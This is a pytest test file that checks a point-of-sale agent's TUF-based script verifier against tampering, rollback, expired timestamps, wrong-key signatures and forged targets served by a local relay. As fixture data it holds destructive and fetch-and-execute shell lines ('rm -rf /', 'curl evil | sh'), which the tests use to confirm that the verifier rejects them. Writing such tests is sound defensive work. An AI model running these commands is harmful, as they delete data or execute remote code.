"""agent.scripts.verify against a real repository served by the relay's routes on 127.0.0.1.

Each attack leaves the agent with a ScriptVerificationError naming the reason and nothing verified.
"""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from securesystemslib.signer import CryptoSigner
from tuf.api.metadata import Metadata, MetaFile, Snapshot, TargetFile, Targets, Timestamp
from tuf.api.serialization.json import JSONSerializer

from posassist.agent.scripts.verify import ScriptVerificationError, refresh_metadata, verify_script
from posassist.console.scripts_repo import HIGH, LOW, ScriptRepository, init_repository
from posassist.protocol.signing import generate_private_key, private_key_from_pem
from posassist.relay.scripts_repo import add_script_routes, refresh_online_metadata

ROOT = Path(__file__).resolve().parents[2]
PASS = b"correct horse battery"
MAX = 1024 * 1024


def manifest(script_id: str, version: str = "1.0.0", risk: str = "B") -> dict[str, Any]:
    return {
        "id": script_id,
        "version": version,
        "title": {"zh": "打印机状态", "en": "Printer status"},
        "description": {"zh": "查询打印机", "en": "Ask the printer"},
        "changes": {"zh": "无", "en": "Nothing"},
        "platforms": ["linux"],
        "interpreter": "sh",
        "entry": "run.sh",
        "files": ["run.sh", "lib.sh"],
        "risk": risk,
        "timeout": 30,
        "max_output": 4096,
        "expected_duration": 1,
    }


def add(repo: ScriptRepository, tmp: Path, raw: dict[str, Any], body: bytes = b"echo ok\n") -> None:
    folder = tmp / f"src-{raw['id']}-{raw['version']}"
    folder.mkdir()
    (folder / "manifest.json").write_text(json.dumps(raw, ensure_ascii=False))
    (folder / "run.sh").write_bytes(body)
    (folder / "lib.sh").write_bytes(b"true\n")
    repo.add_script(folder)


def approve(repo: ScriptRepository, *names: str) -> None:
    for name in names:
        repo.sign((repo.path / "keys" / f"{name}.pem").read_bytes(), PASS)


def online_signer(published: Path, role: str) -> CryptoSigner:
    return CryptoSigner(private_key_from_pem((published / "keys" / f"{role}.pem").read_bytes()))


def relay_republish(published: Path, role: str, md: Metadata[Any], *, version: int = 0) -> None:
    """What a relay that owns the online keys can do: serve any role file, re-sign snapshot."""
    meta = published / "metadata"
    (meta / f"{md.signed.version}.{role}.json").write_bytes(md.to_bytes(JSONSerializer()))
    ts = Metadata[Timestamp].from_bytes((meta / "timestamp.json").read_bytes())
    snap = Metadata[Snapshot].from_bytes(
        (meta / f"{ts.signed.snapshot_meta.version}.snapshot.json").read_bytes()
    )
    snap.signed.meta[f"{role}.json"] = MetaFile(version=version or md.signed.version)
    snap.signed.version += 1
    snap.signatures.clear()
    snap.sign(online_signer(published, "snapshot"))
    (meta / f"{snap.signed.version}.snapshot.json").write_bytes(snap.to_bytes(JSONSerializer()))
    ts.signed.snapshot_meta = MetaFile(version=snap.signed.version)
    ts.signed.version += 1
    ts.signatures.clear()
    ts.sign(online_signer(published, "timestamp"))
    (meta / "timestamp.json").write_bytes(ts.to_bytes(JSONSerializer()))


@dataclass
class Served:
    repo: ScriptRepository
    published: Path
    base: str
    root: bytes
    root_hash: str
    tmp: Path

    def verify(self, script_id: str, version: str = "1.0.0", *, cache: str = "cache", **kw: Any):
        return verify_script(
            self.base + "/v1/scripts/metadata/",
            self.base + "/v1/scripts/targets/",
            kw.pop("root", self.root),
            self.tmp / cache,
            script_id,
            version,
            kw.pop("max_size", MAX),
            root_hash=kw.pop("root_hash", self.root_hash),
        )

    async def refused(self, script_id: str, reason: str, **kw: Any) -> ScriptVerificationError:
        with pytest.raises(ScriptVerificationError) as info:
            await asyncio.to_thread(self.verify, script_id, **kw)
        assert info.value.reason == reason, info.value
        return info.value

    def publish(self) -> None:
        self.repo.publish(self.published.parent)


@pytest.fixture
async def served(tmp_path: Path):
    repo = init_repository(tmp_path / "repo", ["alice", "bob"], PASS)
    add(repo, tmp_path, manifest("printer-status"))
    add(repo, tmp_path, manifest("fix-port", risk="C"))
    approve(repo, "alice", "bob")
    published = repo.publish(tmp_path / "relay")
    app = web.Application()
    add_script_routes(app, published)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    host, port = runner.addresses[0][:2]
    root = (published / "metadata" / "root.json").read_bytes()
    try:
        yield Served(repo, published, f"http://{host}:{port}", root, repo.root_hash(), tmp_path)
    finally:
        await runner.cleanup()


async def test_agent_verifies_signed_scripts(served: Served) -> None:
    manifest_, folder = await asyncio.to_thread(served.verify, "fix-port")
    assert (manifest_.id, manifest_.risk, manifest_.approvals_needed) == ("fix-port", "C", 2)
    assert (folder / "run.sh").read_bytes() == b"echo ok\n"
    assert sorted(p.name for p in folder.iterdir()) == ["lib.sh", "manifest.json", "run.sh"]
    low, _ = await asyncio.to_thread(served.verify, "printer-status")
    assert low.risk == "B"
    # warm: metadata refreshed again, files come from the verified cache
    again, _ = await asyncio.to_thread(served.verify, "fix-port")
    assert again == manifest_


async def test_agent_refuses_root_that_does_not_match_token(served: Served) -> None:
    await served.refused("fix-port", "root-mismatch", root_hash="0" * 64)
    assert not (served.tmp / "cache").exists()


async def test_agent_refuses_target_not_in_signed_metadata(served: Served) -> None:
    evil = served.published / "targets" / "low" / "evil" / "1.0.0"
    evil.mkdir(parents=True)
    (evil / "manifest.json").write_text(json.dumps(manifest("evil")))
    err = await served.refused("evil", "not-found")
    assert "not in the signed repository" in str(err)
    await served.refused("printer-status", "not-found", version="9.9.9")


async def test_agent_refuses_role_signed_by_a_wrong_key(served: Served) -> None:
    md = Metadata.from_bytes((served.repo.path / "metadata" / "low-risk.json").read_bytes())
    md.signed.version += 1
    md.signatures.clear()
    md.sign(CryptoSigner(generate_private_key()))
    relay_republish(served.published, "low-risk", md)
    err = await served.refused("printer-status", "unsigned")
    assert "low-risk" in err.detail


async def test_agent_refuses_risk_c_with_one_approver(served: Served) -> None:
    add(served.repo, served.tmp, manifest("reset-config", risk="C"))
    approve(served.repo, "alice")
    with pytest.raises(Exception, match="1/2"):
        served.publish()  # the approvers' tool won't publish it ...
    md = Metadata.from_bytes((served.repo.path / "metadata" / "high-risk.json").read_bytes())
    relay_republish(served.published, "high-risk", md)  # ... and a relay that serves it anyway
    err = await served.refused("reset-config", "unsigned")
    assert "1/2" in err.detail


async def test_agent_refuses_risk_c_signed_in_the_low_risk_role(served: Served) -> None:
    raw = manifest("sneaky", risk="C")
    served.repo.stage(LOW, raw, {"run.sh": b"rm x\n", "lib.sh": b"", "manifest.json": b"{}"})
    approve(served.repo, "alice")  # one approver can sign low-risk
    served.publish()
    await served.refused("sneaky", "below-threshold")


@pytest.mark.parametrize("change", ["same-length", "longer", "shorter"])
async def test_agent_refuses_file_changed_after_signing(served: Served, change: str) -> None:
    [target] = (served.published / "targets" / "high" / "fix-port" / "1.0.0").glob("*.run.sh")
    body = {"same-length": b"rm -rf\n", "longer": b"echo ok\nrm -rf /\n", "shorter": b"rm\n"}
    target.write_bytes(body[change])
    await served.refused("fix-port", "tampered")
    assert not (
        served.tmp / "cache" / "targets" / "high" / "fix-port" / "1.0.0" / "run.sh"
    ).exists()


async def test_agent_refuses_rollback_of_timestamp(served: Served) -> None:
    old = (served.published / "metadata" / "timestamp.json").read_bytes()
    await asyncio.to_thread(
        refresh_online_metadata, served.published, datetime.now(UTC), force=True
    )
    await asyncio.to_thread(served.verify, "fix-port")
    (served.published / "metadata" / "timestamp.json").write_bytes(old)
    await served.refused("fix-port", "rollback")


async def test_agent_refuses_expired_timestamp(served: Served) -> None:
    await asyncio.to_thread(served.verify, "fix-port")
    # A relay that stopped re-signing (or replays a stale timestamp) freezes the agent's view.
    past = datetime.now(UTC) - timedelta(days=3)
    refresh_online_metadata(served.published, past, force=True)
    err = await served.refused("fix-port", "expired")
    assert "timestamp" in err.detail or "snapshot" in err.detail


async def test_agent_refuses_mix_and_match_of_role_versions(served: Served) -> None:
    await asyncio.to_thread(served.verify, "printer-status")
    add(served.repo, served.tmp, manifest("printer-status", "1.1.0"))
    approve(served.repo, "alice")
    served.publish()
    await asyncio.to_thread(served.verify, "printer-status", version="1.1.0")
    # snapshot re-signed by the relay to point at the older low-risk v1 with the newer timestamp
    v1 = Metadata.from_bytes((served.published / "metadata" / "1.low-risk.json").read_bytes())
    relay_republish(served.published, "low-risk", v1)
    await served.refused("printer-status", "rollback")


async def test_fresh_agent_refuses_swapped_role_file(served: Served) -> None:
    add(served.repo, served.tmp, manifest("printer-status", "1.1.0"))
    approve(served.repo, "alice")
    served.publish()
    meta = served.published / "metadata"
    (meta / "2.low-risk.json").write_bytes((meta / "1.low-risk.json").read_bytes())
    await served.refused("printer-status", "rollback", cache="fresh")


async def test_agent_refuses_oversized_target(served: Served) -> None:
    err = await served.refused("fix-port", "oversized", max_size=10)
    assert "> 10 bytes" in err.detail
    assert not list((served.tmp / "cache" / "targets").rglob("run.sh"))


async def test_agent_refuses_target_added_with_the_relays_online_keys(served: Served) -> None:
    md = Metadata[Targets].from_bytes(
        (served.repo.path / "metadata" / "low-risk.json").read_bytes()
    )
    raw = manifest("backdoor")
    for name, body in {"run.sh": b"curl evil | sh\n", "lib.sh": b"", "manifest.json": b""}.items():
        target = TargetFile.from_data(f"low/backdoor/1.0.0/{name}", body, ["sha256"])
        target.unrecognized_fields["custom"] = {"posassist-manifest": raw}
        md.signed.targets[target.path] = target
        folder = served.published / "targets" / "low" / "backdoor" / "1.0.0"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{target.hashes['sha256']}.{name}").write_bytes(body)
    md.signed.version += 1
    md.signatures.clear()
    for role in ("snapshot", "timestamp"):
        md.sign(online_signer(served.published, role), append=True)
    relay_republish(served.published, "low-risk", md)
    err = await served.refused("backdoor", "unsigned")
    assert "low-risk" in err.detail
    # and the scripts the approvers signed are refused too while the relay serves the forgery
    await served.refused("printer-status", "unsigned")


async def test_retired_version_is_refused_after_publish(served: Served) -> None:
    served.repo.retire("printer-status", "1.0.0")
    approve(served.repo, "alice", "root")  # a retirement is a new root too: its holder signs
    served.publish()
    await served.refused("printer-status", "not-found")


async def test_relay_resigns_timestamp_and_agent_accepts_it(served: Served) -> None:
    meta = served.published / "metadata"
    assert not refresh_online_metadata(served.published, datetime.now(UTC))
    before = json.loads((meta / "timestamp.json").read_bytes())["signed"]["version"]
    assert refresh_online_metadata(served.published, datetime.now(UTC) + timedelta(hours=20))
    after = json.loads((meta / "timestamp.json").read_bytes())["signed"]
    assert after["version"] == before + 1
    await asyncio.to_thread(served.verify, "fix-port")


async def test_relay_never_serves_the_online_keys(served: Served) -> None:
    import urllib.request
    from urllib.error import HTTPError

    for path in ("/v1/scripts/keys/timestamp.pem", "/v1/scripts/metadata/../keys/timestamp.pem"):
        with pytest.raises(HTTPError) as info:
            await asyncio.to_thread(urllib.request.urlopen, served.base + path, None, 5)
        info.value.close()
        assert info.value.code in (403, 404)


def test_importing_the_verifier_does_not_load_tuf() -> None:
    code = (
        "import sys, posassist.agent.scripts.verify; assert 'tuf' not in sys.modules, 'tuf loaded'"
    )
    subprocess.run([sys.executable, "-c", code], cwd=ROOT, check=True, timeout=60)


@pytest.mark.py38
def test_verifier_imports_and_refuses_a_wrong_root_on_python38(tmp_path: Path) -> None:
    py38 = ROOT / ".venv38" / "bin" / "python"
    if not py38.exists():
        pytest.fail(f"{py38} is missing (docs/windows7.md)")
    code = (
        "import sys\n"
        "from posassist.agent.scripts.verify import ScriptVerificationError, verify_script\n"
        "try:\n"
        "    verify_script('http://127.0.0.1:9/m/', 'http://127.0.0.1:9/t/', b'{}', sys.argv[1],"
        " 'x-y', '1.0.0', 10, root_hash='0' * 64)\n"
        "except ScriptVerificationError as e:\n"
        "    print(e.reason, 'tuf' in sys.modules)\n"
    )
    out = subprocess.run(
        [str(py38), "-c", code, str(tmp_path)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    assert out.stdout.strip() == "root-mismatch False"


@pytest.mark.py38
async def test_verifier_verifies_a_script_on_python38(served: Served) -> None:
    # Python 3.8 gets tuf 5.1 (tuf 6's client does not import on 3.8; pyproject pins it).
    py38 = ROOT / ".venv38" / "bin" / "python"
    if not py38.exists():
        pytest.fail(f"{py38} is missing (docs/windows7.md)")
    code = (
        "import sys; from agent.scripts.verify import verify_script as v; "
        "m, f = v(sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], 'fix-port', '1.0.0', "
        "1 << 20, root_hash=sys.argv[5]); print(m.risk, sorted(p.name for p in f.iterdir()))"
    )
    root_file = served.tmp / "root.json"
    root_file.write_bytes(served.root)
    proc = await asyncio.create_subprocess_exec(
        str(py38),
        "-c",
        code,
        served.base + "/v1/scripts/metadata/",
        served.base + "/v1/scripts/targets/",
        str(root_file),
        str(served.tmp / "cache38"),
        served.root_hash,
        cwd=ROOT,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await asyncio.wait_for(proc.communicate(), 60)
    assert proc.returncode == 0, err.decode()
    assert out.decode().strip() == "C ['lib.sh', 'manifest.json', 'run.sh']"


def test_high_risk_role_needs_two_approvers(tmp_path: Path) -> None:
    repo = init_repository(tmp_path / "r", ["alice", "bob"], PASS)
    status = {s.role: s for s in repo.status()}
    assert (status[HIGH].threshold, status[LOW].threshold) == (2, 1)


def retire_and_roll_back(served: Served) -> None:
    """Approvers retire printer-status 1.0.0 and publish; the relay then serves, with its online
    snapshot and timestamp keys, the older low-risk role that still lists it."""
    meta = served.published / "metadata"
    old = Metadata[Targets].from_bytes((meta / "1.low-risk.json").read_bytes())
    assert any(p.startswith("low/printer-status/1.0.0/") for p in old.signed.targets)
    served.repo.retire("printer-status", "1.0.0")
    approve(served.repo, "alice", "root")
    served.publish()
    assert served.repo.min_versions() == {LOW: 2}


async def test_till_that_saw_a_retirement_refuses_the_rolled_back_role(served: Served) -> None:
    await asyncio.to_thread(served.verify, "printer-status")  # enrolled before: it ran
    retire_and_roll_back(served)
    versions = await asyncio.to_thread(
        refresh_metadata,
        served.base + "/v1/scripts/metadata/",
        served.base + "/v1/scripts/targets/",
        served.root,
        served.tmp / "cache",
        root_hash=served.root_hash,
    )  # the till refreshes on connect: it has seen the retirement
    assert versions[LOW] == 2
    await served.refused("printer-status", "not-found")
    v1 = Metadata.from_bytes((served.published / "metadata" / "1.low-risk.json").read_bytes())
    relay_republish(served.published, LOW, v1)
    await served.refused("printer-status", "rollback")


async def test_till_enrolled_after_a_retirement_refuses_the_rolled_back_role(
    served: Served,
) -> None:
    retire_and_roll_back(served)
    v1 = Metadata.from_bytes((served.published / "metadata" / "1.low-risk.json").read_bytes())
    relay_republish(served.published, LOW, v1)
    # a new till pins the root the approvers name now (posassist-scripts root-hash): version 2,
    # which carries low-risk's minimum version; the relay can't serve it an older one
    new_root = (served.published / "metadata" / "root.json").read_bytes()
    assert served.repo.root_hash() != served.root_hash
    err = await served.refused(
        "printer-status", "rollback", root=new_root, root_hash=served.repo.root_hash(), cache="new"
    )
    assert LOW in err.detail
    # while the relay serves the rolled-back role, nothing runs, not even a script never retired
    await served.refused(
        "fix-port", "rollback", root=new_root, root_hash=served.repo.root_hash(), cache="new"
    )


async def test_a_till_that_never_refreshed_gets_the_floor_with_the_new_root(served: Served) -> None:
    retire_and_roll_back(served)
    v1 = Metadata.from_bytes((served.published / "metadata" / "1.low-risk.json").read_bytes())
    # the relay serves root 2 (it must, to keep new tills) but rolls low-risk back
    relay_republish(served.published, LOW, v1)
    await served.refused("printer-status", "rollback")  # root 1 → 2 by the chain, then the floor
